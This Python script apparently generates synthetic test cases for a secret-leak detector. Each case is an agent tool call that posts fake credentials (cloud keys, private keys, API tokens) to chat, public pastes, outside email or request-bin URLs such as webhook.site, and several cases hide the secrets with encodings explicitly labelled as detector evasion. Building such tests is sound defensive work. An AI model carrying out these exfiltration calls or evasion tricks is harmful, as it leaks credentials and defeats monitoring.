from common import *

GL = "gitleaks default rules / provider token format docs"


def build():
    r = R("secret")
    L = []
    a = lambda *x: L.append(E(*x))

    t = gh_token(r)
    a("GitHub classic PAT (ghp_, valid CRC32 checksum) pasted into team chat", "GitHub blog: Behind GitHub's new authentication token formats",
      "slack.post_message",
      {"channel": "#deploys", "text": "CI keeps failing on the release job, just use mine for now: `%s` (repo + workflow scopes). I'll rotate next week." % t,
       "unfurl_links": False})

    t = gh_fine_grained(r)
    a("GitHub fine-grained PAT sent to third-party CI helper API", "GitHub docs: fine-grained personal access tokens", "http.post",
      {"url": "https://api.ci-helper.dev/v1/projects", "json": {"name": "acme-web", "provider": "github",
                                                                "repo": "acme-corp/web", "repo_token": t, "auto_merge": True}})

    bot = slack_bot(r)
    cfg = ("# slack bot config for release-announcer\napp_id: A0%s\nbot_token: %s\nsigning_secret: %s\n"
           "default_channel: \"#releases\"\nmention_on_failure: \"@release-oncall\"\n") % (rstr(r, 9, string.ascii_uppercase + string.digits), bot, hex32(r))
    a("Slack bot token + signing secret in a public gist", "Slack API docs: token types", "github.create_gist",
      {"public": True, "description": "release-announcer config", "files": {"config.yml": {"content": cfg}}})

    wh = slack_webhook(r)
    a("Slack incoming webhook URL published in a wiki page", "Slack API docs: incoming webhooks", "confluence.page_create",
      {"space": "PUBLICDOCS", "title": "How to post build alerts",
       "body": "<p>Use this curl from any script:</p><pre>curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"build ok\"}' %s</pre>" % wh})

    sk = stripe_live(r)
    a("Stripe live secret key shared in vendor support ticket", "Stripe docs: API keys", "zendesk.ticket_create",
      {"requester": "finance-ops@northwind.example", "subject": "Payouts failing since Monday",
       "comment": {"body": "Hi team, payouts fail with 'account_invalid'. Our key is %s - can you check what is wrong on your side? Thanks, Lena" % sk},
       "priority": "high"})

    ak, sec = aws_pair(r)
    creds = "[default]\naws_access_key_id = %s\naws_secret_access_key = %s\nregion = eu-west-1\n\n[prod-admin]\nrole_arn = arn:aws:iam::%d:role/OrgAdmin\nsource_profile = default\n" % (ak, sec, r.randint(10 ** 11, 10 ** 12 - 1))
    a("AWS access key id + secret (~/.aws/credentials) in public paste", "AWS docs: access key format", "paste.create",
      {"title": "aws creds", "visibility": "public", "syntax": "ini", "expire": "never", "content": creds})

    ak2, sec2 = aws_pair(r, "ASIA")
    imds = {"Code": "Success", "LastUpdated": "2024-11-04T10:12:55Z", "Type": "AWS-HMAC", "AccessKeyId": ak2,
            "SecretAccessKey": sec2, "Token": aws_session_token(r), "Expiration": "2024-11-04T16:31:02Z"}
    a("temporary AWS STS credentials (ASIA + session token) forwarded to external endpoint", "AWS docs: temporary security credentials", "http.post",
      {"url": "https://webhook.site/6f1c0e2a-93b4-4c55-9a0b-1d8e7c2f4a10", "json": {"host": "ip-10-0-3-41", "creds": imds}})

    sa = {"type": "service_account", "project_id": "northwind-analytics-prod",
          "private_key_id": rstr(r, 40, HEX), "private_key": pkcs8_private_pem(r),
          "client_email": "bq-loader@northwind-analytics-prod.iam.gserviceaccount.com",
          "client_id": str(r.randint(10 ** 20, 10 ** 21 - 1)),
          "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token",
          "auth_provider_x509_cert_url": "https://www.googleapis.com/oauth2/v1/certs",
          "client_x509_cert_url": "https://www.googleapis.com/robot/v1/metadata/x509/bq-loader%40northwind-analytics-prod.iam.gserviceaccount.com",
          "universe_domain": "googleapis.com"}
    a("GCP service-account JSON key (private_key with \\n-joined PEM) shared externally", "Google Cloud docs: service account keys", "drive.upload",
      {"name": "bq-loader-key.json", "mime_type": "application/json", "content": json.dumps(sa, indent=2),
       "share_with": [{"email": "contractor.dev@gmail.com", "role": "reader"}]})

    a("RSA private key block emailed to external address", "RFC 7468 / OpenSSL PEM", "email.send",
      {"to": ["mark.h.freelance@outlook.com"], "subject": "server key as requested",
       "body": "Mark,\n\nHere is the TLS key for api.northwind.example so you can set up the staging proxy. The cert is the normal one from the load balancer, "
               "I just exported the key from the old box since the new one isn't in Vault yet. Put it in /etc/haproxy/certs/ together with the chain:\n\n" + rsa_private_pem(r) + "\nDelete after use please.\nTom"})

    a("OpenSSH private key in ticket comment", "OpenSSH PROTOCOL.key", "jira.add_comment",
      {"issue": "OPS-4417", "body": "Deploy key for the build box (no passphrase):\n{code}\n" + openssh_private_pem(r) + "{code}"})

    ec = ec_private_pem(r)
    manifest = ("apiVersion: v1\nkind: Secret\nmetadata:\n  name: signing-key\n  namespace: payments\ntype: Opaque\ndata:\n"
                "  signing.pem: %s\n  key-id: %s\n") % (b64(ec), b64("k-2024-11"))
    a("EC private key base64-encoded in a Kubernetes Secret committed to a public repo", "Kubernetes docs: Secrets", "github.create_file",
      {"owner": "northwind-oss", "repo": "payments-helm", "path": "charts/payments/templates/signing-secret.yaml",
       "message": "add signing key", "branch": "main", "content": manifest})

    pw = rstr(r, 18, ALNUM + "!#%")
    a("PostgreSQL URL with password in chat", "own design", "teams.send_message",
      {"chat_id": "19:meeting_NjE3ZjQy", "message": "prod db for the migration tonight: postgres://app_admin:%s@pg-prod-1.cluster-cq8f2kd9x1.eu-west-1.rds.amazonaws.com:5432/orders?sslmode=require" % pw})

    pw2 = rstr(r, 24)
    a("MongoDB SRV connection string with credentials in wiki", "MongoDB docs: connection string", "notion.page_create",
      {"parent": {"database_id": "b1e3c0d2a8f94e7c9d1a4b6e2c8f0a13"}, "properties": {"Name": "Atlas access"},
       "children": [{"type": "code", "code": {"language": "bash", "text": "MONGO_URI=mongodb+srv://reporting:%s@cluster0.x7kq2.mongodb.net/prod?retryWrites=true&w=majority" % pw2}}]})

    tok = jwt(r, {"sub": "u_1", "role": "admin", "org": "northwind", "iat": 1730700000, "exp": 1762236000, "scope": "*"})
    a("long-lived admin JWT posted to a request-bin", "RFC 7519", "http.post",
      {"url": "https://webhook.site/b7d0a51e-5c34-4e2f-8a7e-2bfa90c1d6e4", "headers": {"Content-Type": "application/json"},
       "json": {"note": "session from prod admin panel", "authorization": "Bearer " + tok}})

    a("npm automation token in .npmrc gist", "npm docs: access tokens", "github.create_gist",
      {"public": True, "files": {".npmrc": {"content": "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=%s\nalways-auth=true\n" % npm_token(r)}}})

    a("PyPI API token in .pypirc inside a forum question", "PyPI docs: API tokens", "forum.post",
      {"site": "discuss.python.org", "category": "Packaging",
       "title": "twine upload 403 even with token?",
       "body": "My ~/.pypirc:\n\n```\n[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = __token__\npassword = %s\n```\n\nStill getting 403 Forbidden, any idea?" % pypi_token(r)})

    a("OpenAI project key in posted code sample", "OpenAI API key format", "stackoverflow.post_answer",
      {"question_id": 78123344,
       "body": "This works for me:\n\n```python\nfrom openai import OpenAI\nclient = OpenAI(api_key=\"%s\")\nresp = client.chat.completions.create(model=\"gpt-4o-mini\", messages=[{\"role\":\"user\",\"content\":\"hi\"}])\n```" % openai_key(r)})

    a("SendGrid API key emailed to contractor", "Twilio SendGrid docs: API keys", "email.send",
      {"to": ["dev@brightpixel-agency.example"], "subject": "SMTP relay creds",
       "body": "Use apikey as the SMTP user and this as password: %s\nSender domain is already verified." % sendgrid_key(r)})

    a("Twilio Account SID + auth token in project board card", "Twilio docs: auth tokens", "trello.card_create",
      {"list": "Backlog", "name": "SMS 2FA integration",
       "desc": "Creds for testing on prod account:\nTWILIO_ACCOUNT_SID=AC%s\nTWILIO_AUTH_TOKEN=%s\nFrom number +14155550123" % (hex32(r), hex32(r))})

    a("Google Cloud API key in public paste with server config", "Google Cloud docs: API keys", "paste.create",
      {"visibility": "public", "syntax": "yaml",
       "content": "geocoder:\n  provider: google\n  api_key: %s\n  rate_limit_qps: 40\n  region: eu\n" % google_api_key(r)})

    az = azure_account_key(r)
    a("Azure Storage connection string with AccountKey in chat", "Azure docs: storage connection strings", "slack.post_message",
      {"channel": "#data-eng", "text": "blob access for the export job:\nDefaultEndpointsProtocol=https;AccountName=nwexportsprod;AccountKey=%s;EndpointSuffix=core.windows.net" % az})

    a("Discord bot token in public bug report", "Discord developer docs", "github.issues.create",
      {"owner": "modbot-community", "repo": "modbot", "title": "Bot crashes on startup",
       "body": "Stack trace below. config.json:\n```json\n{\"token\": \"%s\", \"prefix\": \"!\", \"guild\": \"1122334455667788990\"}\n```\nTypeError: Cannot read properties of undefined (reading 'cache')" % discord_token(r)})

    env = ("APP_ENV=production\nDATABASE_URL=postgres://billing:%s@10.20.1.15:5432/billing\nREDIS_URL=redis://:%s@10.20.1.30:6379/0\n"
           "AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\nSTRIPE_SECRET_KEY=%s\nSENTRY_DSN=https://%s@o4505.ingest.sentry.io/45051\n") % (
        rstr(r, 20), rstr(r, 32), *aws_pair(r), stripe_live(r), hex32(r))
    a("base64-encoded production .env in upload body", "own design (DLP evasion by encoding)", "http.post",
      {"url": "https://api.pastes.io/v1/upload", "json": {"filename": "env.b64", "data": b64(env), "expires": "1w"}})

    gl = gitlab_pat(r)
    a("percent-encoded GitLab PAT in analytics beacon query string", "own design (DLP evasion by URL encoding)", "http.fetch",
      {"url": "https://stats.cdn-metrics.io/collect?v=1&tid=UA-99812-1&cd1=" + pct_all(gl) + "&cd2=ci-runner-07", "method": "GET"})

    ant = anthropic_key(r)
    a("Anthropic API key written as \\u escapes in JS snippet", "own design (DLP evasion by escaping)", "codepen.create",
      {"title": "claude chat widget", "js": "const KEY = \"%s\";\nfetch('https://api.anthropic.com/v1/messages', {method:'POST', headers:{'x-api-key': KEY, 'anthropic-version':'2023-06-01'}});" % uesc(ant),
       "public": True})

    rk = stripe_live(r, "rk")
    parts = [rk[i:i + 20] for i in range(0, len(rk), 20)]
    js = "// payments helper\nconst k = [" + ", ".join('"%s"' % p for p in parts) + "].join('');\nmodule.exports = require('stripe')(k);\n"
    a("Stripe restricted live key split into concatenated chunks", "own design (DLP evasion by splitting)", "fs.write_public_bucket",
      {"bucket": "northwind-static-assets", "key": "js/pay-helper.js", "acl": "public-read", "content": js})

    hf = hf_token(r)
    a("Hugging Face token with zero-width spaces inserted", "own design (DLP evasion by invisible characters)", "discord.send_message",
      {"channel_id": "1098877665544332211", "content": "use this to pull the gated model: " + zw(hf, 5)})

    do = do_token(r)
    a("DigitalOcean PAT hex-encoded in config blob", "own design (DLP evasion by hex encoding)", "http.post",
      {"url": "https://config-share.example-tools.io/api/snippets",
       "json": {"name": "droplet-autoscaler", "encoding": "hex", "blob": do.encode().hex()}})

    sh = shopify_token(r)
    a("Shopify admin token as HTML decimal entities in outbound HTML email", "own design (DLP evasion by entity encoding)", "email.send",
      {"to": ["ops@fastfulfil-partner.example"], "subject": "store API access", "html": True,
       "body": "<p>Hi,</p><p>Admin API token for northwind-store.myshopify.com:</p><p><code>%s</code></p><p>Scopes: orders, customers.</p>" % html_dec(sh)})

    vt = "hvs." + rstr(r, 24)
    a("Vault token inside OpenAI function-call arguments for outbound email", "HashiCorp Vault docs: token prefixes", "agent.tool_calls",
      {"tool_calls": [fcall(r, "email.send", {"to": "helpdesk@external-msp.example",
                                                "subject": "vault access",
                                                "body": "VAULT_ADDR=https://vault.northwind.internal:8200\nVAULT_TOKEN=%s\nrole: root-equivalent, TTL 768h" % vt})]})

    return L
